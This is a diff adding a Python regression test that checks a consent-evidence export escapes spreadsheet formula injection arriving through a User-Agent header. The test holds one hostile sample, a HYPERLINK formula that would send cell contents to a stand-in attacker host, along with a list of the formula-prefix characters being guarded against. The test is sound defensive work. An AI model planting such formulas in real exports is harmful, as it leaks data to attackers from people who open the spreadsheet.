@@ -91,3 +91,25 @@ def test_evidence_commands_csv_and_contact(rt: Runtime, write_csv: Callable[...,
     missing = CliRunner().invoke(main, ["evidence", "contact", "--email", "nobody@example.org"], env=env)
     assert missing.exit_code == 1 and "no contact and no suppression entry" in missing.output
     assert CliRunner().invoke(main, ["evidence", "campaign", "99"], env=env).exit_code == 1
+
+
+def test_a_formula_in_a_user_agent_is_inert_in_the_csv_and_exact_in_the_json(
+        rt: Runtime, write_csv: Callable[..., Path], database_url: str) -> None:
+    """Issue 15: anyone sets their User-Agent; it reached the auditor's spreadsheet as a live formula."""
+    ua = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
+    campaign_id = launch(rt, write_csv([person(1)]))
+    run(dispatch_once(rt))
+    page = rt.links.dumps("page", LinkClaims(contact_id=1, campaign_id=campaign_id, channel="email"))
+    assert TestClient(create_app(rt)).post(f"/p/{page}", data={"email": "yes", "action": "confirm"},
+                                           headers={"user-agent": ua}).status_code == 200
+    env = {"RECONSENT_DATABASE__URL": database_url}
+    result = CliRunner().invoke(main, ["evidence", "campaign", str(campaign_id), "--format", "csv"], env=env)
+    assert result.exit_code == 0
+    [event] = [r for r in csv.DictReader(io.StringIO(result.output)) if r["action"] == "confirmed"]
+    assert event["user_agent"] == "'" + ua
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+               for row in csv.reader(io.StringIO(result.output)) for cell in row)
+    as_json = CliRunner().invoke(main, ["evidence", "campaign", str(campaign_id)], env=env)
+    assert as_json.exit_code == 0
+    [confirmer] = json.loads(as_json.output)["contacts"]
+    assert [e["user_agent"] for e in confirmer["consent_events"] if e["action"] == "confirmed"] == [ua]
